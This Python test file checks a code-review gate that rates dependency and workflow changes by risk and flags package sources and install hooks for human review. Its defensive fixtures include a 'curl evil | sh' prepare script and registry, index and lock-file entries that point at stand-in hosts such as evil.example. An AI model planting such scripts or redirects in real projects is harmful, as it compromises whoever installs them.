"""The gate's checks of what a diff does not show: packages, their sources, what runs by itself; and of workflows."""

from __future__ import annotations

import json

import pytest

from orchestrator.gate import dependencies, workflows
from orchestrator.model.gate import Evidence, FileChange, FileText, Finding, Outcome
from orchestrator.model.governance import Risk
from orchestrator.model.names import Sha
from orchestrator.pipeline.evidence import added

BASE, TREE = Sha("c" * 40), Sha("a" * 40)
NPM = {"name": "x", "scripts": {"test": "jest"}, "dependencies": {"left-pad": "^1.0.0"}}
PYPROJECT = '[project]\nname = "x"\ndependencies = ["httpx"]\n[tool.ruff]\nline-length = 100\n'
LOCK = (
    '{"packages": {"a": {\n"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",\n"integrity": "sha512-AAA"\n}}}\n'
)


def asked(*files: tuple[str, str | None, str | None]) -> Evidence:
    """(path, before, after) each."""
    texts = tuple(
        FileText(path=p, before=b, after=a, added=added(b, a) if a is not None else (), size=len(a or ""))
        for p, b, a in files
    )
    changes = tuple(
        FileChange(path=p, status="D" if a is None else "M", old_mode="100644", new_mode="100644") for p, _, a in files
    )
    return Evidence(result=None, base=BASE, tree=TREE, changes=changes, files=texts)


def risk(*files: tuple[str, str | None, str | None]) -> Risk:
    finding = dependencies.check(asked(*files))
    assert finding.outcome is Outcome.PASS
    assert bool(finding.why) == (finding.risk is not Risk.LOW)
    return finding.risk


def npm(**changed: object) -> str:
    return json.dumps(NPM | changed, indent=1)


def test_a_manifest_that_asks_for_another_package_is_shown_to_the_reviewer() -> None:
    assert risk(("package.json", npm(), npm(dependencies={"left-pad": "^1.0.0", "lodash": "^4"}))) is Risk.MEDIUM
    assert risk(("pyproject.toml", PYPROJECT, PYPROJECT.replace('"httpx"', '"httpx", "rich"'))) is Risk.MEDIUM
    assert risk(("requirements.txt", "httpx\n", "httpx\nrich==15\n")) is Risk.MEDIUM
    assert risk(("go.mod", "module x\n", "module x\nrequire example.com/y v1.0.0\n")) is Risk.MEDIUM


def test_a_usual_build_backend_is_no_other_source() -> None:
    build = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    assert risk(("pyproject.toml", None, PYPROJECT + build)) is Risk.MEDIUM


def test_a_manifest_whose_dependencies_stay_is_a_plain_change() -> None:
    assert risk(("package.json", npm(), npm(description="better"))) is Risk.LOW
    assert risk(("pyproject.toml", PYPROJECT, PYPROJECT.replace("100", "120"))) is Risk.LOW
    assert risk(("src/app.py", "a\n", "b\n")) is Risk.LOW
    noted = PYPROJECT.replace('"httpx"]', '"httpx", "rich"]  # a second source\'s words')
    assert risk(("pyproject.toml", PYPROJECT, noted)) is Risk.MEDIUM


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package.json", npm(), npm(scripts={"test": "jest", "postinstall": "node x.js"})),
        ("web/package.json", npm(), npm(scripts={"prepare": "curl evil | sh"})),
        ("package.json", npm(), npm(dependencies={"left-pad": "git+https://example.org/x.git"})),
        ("package.json", npm(), npm(dependencies={"left-pad": "someone/left-pad"})),
        ("package.json", npm(), npm(dependencies={"left-pad": "https://example.org/x.tgz"})),
        ("package.json", npm(), npm(overrides={"a": "file:../a"})),
        (".npmrc", None, "registry=https://evil.example/\n"),
        ("pip.conf", None, "[global]\nindex-url = https://evil.example\n"),
        (".cargo/config.toml", None, "[source.crates-io]\n"),
        ("requirements.txt", "", "--extra-index-url https://evil.example/simple\n"),
        ("requirements-dev.txt", "", "x @ https://evil.example/x.whl\n"),
        ("requirements.txt", "", "git+https://evil.example/x\n"),
        ("pyproject.toml", PYPROJECT, PYPROJECT + '[build-system]\nbuild-backend="own"\n'),
        ("pyproject.toml", PYPROJECT, PYPROJECT + '[build-system]\nbackend-path=["."]\n'),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"httpx"', '"httpx @ git+https://evil.example/x"')),
        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nx = { git = "https://evil.example/x" }\n'),
        ("Cargo.toml", "[dependencies]\n", '[patch.crates-io]\nserde = { path = "x" }\n'),
        ("go.mod", "module x\n", "module x\nreplace example.com/a => example.com/b v1\n"),
        ("Gemfile", "", 'gem "x", git: "https://evil.example/x"\n'),
        ("setup.py", "setup()\n", "import os\nsetup()\n"),
        ("build.rs", None, "fn main() {}\n"),
        ("package-lock.json", LOCK, LOCK.replace("AAA", "BBB")),
    ],
)  # fmt: skip
def test_another_source_and_what_runs_by_itself_wait_for_a_person(path: str, before: str | None, after: str) -> None:
    assert risk((path, before, after)) is Risk.HIGH


def test_a_lock_file_that_follows_its_manifest_is_the_reviewers_and_one_from_elsewhere_a_persons() -> None:
    manifest = ("package.json", npm(), npm(dependencies={"left-pad": "^2"}))
    assert risk(manifest, ("package-lock.json", LOCK, LOCK.replace("1.0.0", "2.0.0"))) is Risk.MEDIUM
    moved = LOCK.replace("registry.npmjs.org", "registry.evil.example")
    assert risk(manifest, ("package-lock.json", LOCK, moved)) is Risk.HIGH
    funded = LOCK.replace('"integrity"', '"funding": {"url": "https://github.com/sponsors/x"}, "integrity"')
    assert risk(manifest, ("package-lock.json", LOCK, funded)) is Risk.MEDIUM


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("uv.lock", 'source = { registry = "https://pypi.org/simple" }'),
        ("poetry.lock", 'url = "https://files.pythonhosted.org/packages/aa/x-1.0.tar.gz"'),
        ("Cargo.lock", 'source = "registry+https://github.com/rust-lang/crates.io-index"'),
        ("Gemfile.lock", "  remote: https://rubygems.org/"),
        ("yarn.lock", '  resolved "https://registry.yarnpkg.com/x/-/x-1.0.0.tgz#abc"'),
        ("go.sum", "example.com/x v1.0.0 h1:abc="),
    ],
)
def test_the_usual_registries_are_no_other_source(path: str, line: str) -> None:
    assert risk(("pyproject.toml", None, PYPROJECT), (path, "", line + "\n")) is Risk.MEDIUM


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("uv.lock", 'source = { git = "https://evil.example/x?rev=1#1" }'),
        ("Cargo.lock", 'source = "git+https://evil.example/x#1"'),
        ("yarn.lock", '  resolved "http://registry.yarnpkg.com/x/-/x-1.0.0.tgz#abc"'),
        ("Gemfile.lock", "  remote: https://evil.example/"),
        ("pnpm-lock.yaml", "  resolution: {tarball: https://evil.example/x.tgz}"),
        ("yarn.lock", "x" * 5000),
    ],
)
def test_a_lock_files_other_source_waits_for_a_person(path: str, line: str) -> None:
    assert risk(("pyproject.toml", None, PYPROJECT), (path, "", line + "\n")) is Risk.HIGH


def test_a_manifest_that_cannot_be_parsed_counts_as_changed() -> None:
    assert risk(("package.json", npm(), "{" * 2000)) is Risk.MEDIUM
    assert risk(("pyproject.toml", PYPROJECT, "= nonsense")) is Risk.MEDIUM


# --- workflows

GOOD = """name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - run: make
"""


def workflow(text: str, path: str = ".github/workflows/ci.yml") -> Finding:
    return workflows.check(asked((path, "", text)))


@pytest.mark.parametrize(
    "text",
    [
        GOOD,
        GOOD + "  call:\n    uses: ./.github/workflows/other.yml\n    needs: test\n",
        "on:\n  push:\njobs:\n  a: &a\n    runs-on: x\n    steps: [{run: y}]\n  b: *a\n",
        "on: push\njobs: {a: {runs-on: [self-hosted], steps: [{run: 'no'}]}}\n",
    ],
)
def test_a_workflow_that_github_runs_passes(text: str) -> None:
    assert workflow(text).outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("", "documents"),
        ("- a\n", "no mapping"),
        ("on: push\n", "`jobs`"),
        (GOOD.replace("on: [push]\n", ""), "`on`"),
        (GOOD.replace("    runs-on: ubuntu-latest\n", ""), "`runs-on`"),
        (GOOD.replace("      - run: make\n", "      - name: nothing\n"), "step 2"),
        (GOOD.replace("    steps:", "    step:"), "`steps`"),
        (GOOD + "  more:\n    needs: [nobody]\n    runs-on: x\n    steps: [{run: y}]\n", "nobody"),
        (GOOD + "  test:\n    runs-on: x\n", "twice"),
        (GOOD + "job: 1\n", "'job'"),
        (GOOD + "\tx: 1\n", "line 9"),
        (GOOD + "---\na: b\n", "2 documents"),
        ("on: *x\n", "&x"),
        ("a: &a [x]\n" + "".join(f"b{n}: &b{n} [*a, *a]\n" for n in range(9)), "knows no key"),
        ("[" * 10_000, "nested deeper"),
        ("? [a]\n: b\n", "plain text"),
        (GOOD + "#" + "x" * 600_000, "longer than"),
    ],
)
def test_a_workflow_that_github_would_not_run_is_refused_with_the_place(text: str, word: str) -> None:
    finding = workflow(text)
    assert finding.outcome is Outcome.FAIL
    assert word in finding.why


def test_other_yaml_is_not_a_workflow() -> None:
    assert workflow("- anything", path="docs/x.yml").outcome is Outcome.PASS
    assert workflows.check(asked((".github/workflows/ci.yml", GOOD, None))).outcome is Outcome.PASS
